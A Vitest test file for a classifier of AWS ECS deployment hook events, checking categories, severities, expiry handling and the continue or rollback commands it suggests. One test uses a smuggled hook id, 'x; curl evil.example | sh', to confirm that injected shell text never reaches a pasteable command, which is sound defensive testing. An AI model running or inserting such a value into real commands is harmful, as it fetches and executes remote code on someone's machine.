import { describe, expect, it } from 'vitest';
import { verdictOf } from '../../support/events.ts';
import { detailOf, loadFixture } from '../../support/fixtures.ts';

const HOOK_ID = 'ecs-pause-e7tK9G_WRJqNF_EOMjztDXfKenlJuEUVjsNStf4WLKw';
const DEPLOYMENT_ARN = 'arn:aws:ecs:us-west-2:123456789012:service-deployment/my-cluster/my-service/0EYSiB0qap8xf0N76FsbE';

/** AWS's HOOK_AWAITING_ACTION example with the given detail fields changed (undefined removes one). */
function hookEvent(detail: Record<string, unknown> = {}, envelope: Record<string, unknown> = {}): Record<string, unknown> {
  const event = { ...loadFixture('hook/awaiting-action.json'), ...envelope };
  const fields = Object.entries({ ...detailOf(event), ...detail }).filter(([, value]) => value !== undefined);
  return { ...event, detail: Object.fromEntries(fields) };
}

describe('classifyHook', () => {
  it.each([
    ['HOOK_AWAITING_ACTION', 'deployment_hook_awaiting_action', 'warning', 'AWAITING_ACTION'],
    ['HOOK_IN_PROGRESS', 'deployment_hook_in_progress', 'info', 'IN_PROGRESS'],
    ['HOOK_SUCCEEDED', 'deployment_hook_succeeded', 'info', 'SUCCEEDED'],
    ['HOOK_FAILED', 'deployment_hook_failed', 'warning', 'FAILED'],
    ['HOOK_TIMED_OUT', 'deployment_hook_timed_out', 'warning', 'TIMED_OUT'],
  ])('classifies %s as %s (%s), with the hook status without HOOK_', (eventName, category, severity, status) => {
    const verdict = verdictOf(hookEvent({ eventName }));
    expect(verdict).toMatchObject({ category, severity, alert: severity !== 'info', status: eventName, cluster: 'my-cluster', service: 'my-service' });
    expect(verdict.hook?.status).toBe(status);
  });

  it('tells who must act, by when, and the exact commands to continue or roll back with the hook id', () => {
    const verdict = verdictOf(hookEvent());
    expect(verdict.cause).toBe(
      `Pause hook ${HOOK_ID} at stage POST_TEST_TRAFFIC_SHIFT of the deployment of service my-service is waiting for someone to continue or roll back the deployment. It expires at 2026-03-05T16:04:41Z; then ECS takes its timeout action (ROLLBACK unless the hook is configured to CONTINUE).`,
    );
    expect(verdict.remedy).toBe(
      `Check the new revision, then continue: aws ecs continue-service-deployment --hook-id ${HOOK_ID} --action CONTINUE; or roll back: aws ecs continue-service-deployment --hook-id ${HOOK_ID} --action ROLLBACK.`,
    );
    expect(verdict.docsUrl).toBe('https://docs.aws.amazon.com/AmazonECS/latest/developerguide/pause-lifecycle-hooks.html');
  });

  it('never puts a hook id that is not of the documented form into a command someone would paste into a shell', () => {
    const verdict = verdictOf(hookEvent({ hookId: 'x; curl evil.example | sh' }));
    expect(verdict.remedy).toContain('--hook-id <hook-id> --action CONTINUE');
    expect(verdict.remedy).not.toContain('curl');
    expect(verdict.hook?.hookId).toBe('x; curl evil.example | sh');
  });

  it.each([
    ['ROLLBACK', 'then ECS rolls the deployment back.'],
    ['CONTINUE', 'then ECS continues the deployment to its next stage.'],
  ])('says what the timeout action %s does when the event carries it', (timeoutAction, tail) => {
    const verdict = verdictOf(hookEvent({ timeoutAction }));
    expect(verdict.cause.endsWith(tail)).toBe(true);
    expect(verdict.hook?.timeoutAction).toBe(timeoutAction);
  });

  it('says a timed-out pause is followed by its timeout action', () => {
    expect(verdictOf(hookEvent({ eventName: 'HOOK_TIMED_OUT', timeoutAction: 'CONTINUE' })).cause).toBe(
      `Pause hook ${HOOK_ID} at stage POST_TEST_TRAFFIC_SHIFT of the deployment of service my-service timed out at 2026-03-05T16:04:41Z without anyone continuing or rolling back: ECS continues the deployment to its next stage.`,
    );
  });

  it('says a failed hook rolls the whole deployment back, and blames a person only for a pause hook', () => {
    expect(verdictOf(hookEvent({ eventName: 'HOOK_FAILED' })).cause).toContain('failed: someone chose ROLLBACK, so ECS rolls the whole deployment back');
    const lambda = verdictOf(hookEvent({ eventName: 'HOOK_FAILED', hookType: 'AWS_LAMBDA', hookId: 'ecs-lambda-1' }));
    expect(lambda.cause).toBe('Lambda hook ecs-lambda-1 at stage POST_TEST_TRAFFIC_SHIFT of the deployment of service my-service failed, so ECS rolls the whole deployment back to the previous service revision.');
    expect(verdictOf(hookEvent({ eventName: 'HOOK_SUCCEEDED', hookType: 'AWS_LAMBDA' })).cause).not.toContain('someone');
  });

  it('gives the facts the hook tracker keys on, with the times read to milliseconds', () => {
    expect(verdictOf(hookEvent()).hook).toEqual({
      hookId: HOOK_ID,
      hookType: 'PAUSE',
      lifecycleStage: 'POST_TEST_TRAFFIC_SHIFT',
      status: 'AWAITING_ACTION',
      expiresAt: '2026-03-05T16:04:41Z',
      expiresAtMs: Date.UTC(2026, 2, 5, 16, 4, 41),
      serviceDeploymentArn: DEPLOYMENT_ARN,
      timeoutAction: null,
      updatedAt: '2026-03-05T15:54:41.618059641Z',
      updatedAtMs: Date.UTC(2026, 2, 5, 15, 54, 41, 618),
    });
  });

  it('keeps an expiry that is not a time as text, without a time to compute with', () => {
    const verdict = verdictOf(hookEvent({ expiresAt: 'tomorrow' }));
    expect(verdict.hook).toMatchObject({ expiresAt: 'tomorrow', expiresAtMs: null });
    expect(verdict.category).toBe('deployment_hook_awaiting_action');
  });

  it('takes cluster and service from detail, not from the service-deployment ARN in resources', () => {
    const verdict = verdictOf(hookEvent({}, { resources: ['arn:aws:ecs:us-west-2:123456789012:service-deployment/other-cluster/other-service/X'] }));
    expect(verdict).toMatchObject({ cluster: 'my-cluster', service: 'my-service', account: '123456789012', region: 'us-west-2' });
    expect(verdict.deploymentId).toBeNull();
  });

  it('finds cluster and service in the service-deployment ARN of resources when detail names neither', () => {
    const verdict = verdictOf(hookEvent({ clusterArn: undefined, serviceArn: undefined, serviceDeploymentArn: undefined }));
    expect(verdict).toMatchObject({ cluster: 'my-cluster', service: 'my-service' });
    expect(verdict.hook?.serviceDeploymentArn).toBe(DEPLOYMENT_ARN);
  });

  it('still classifies a hook event with neither resources nor ARNs, naming what it lacks', () => {
    const raw = hookEvent({ clusterArn: undefined, serviceArn: undefined, serviceDeploymentArn: undefined, hookId: undefined, lifecycleStage: undefined });
    delete raw.resources;
    const verdict = verdictOf(raw);
    expect(verdict).toMatchObject({ category: 'deployment_hook_awaiting_action', cluster: null, service: null });
    expect(verdict.cause).toMatch(/^Pause hook \(no hook id\) at stage \(not given\) of the deployment of service \(unknown\) is waiting/);
    expect(verdict.remedy).toContain('--hook-id <hook-id>');
  });

  it.each(['INFO', 'WARN', 'WARNING', 'ERROR'])('classifies by event name whatever the eventType (%s)', (eventType) => {
    expect(verdictOf(hookEvent({ eventType })).category).toBe('deployment_hook_awaiting_action');
  });

  it('keeps a hook event name it does not know as unsupported', () => {
    const verdict = verdictOf(hookEvent({ eventName: 'HOOK_SKIPPED' }));
    expect(verdict).toMatchObject({ category: 'unsupported', severity: 'info', alert: false });
    expect(verdict.cause).toBe('A hook event this tool does not know yet (HOOK_SKIPPED).');
    expect(verdictOf(hookEvent({ eventName: undefined })).hook?.status).toBeNull();
  });
});
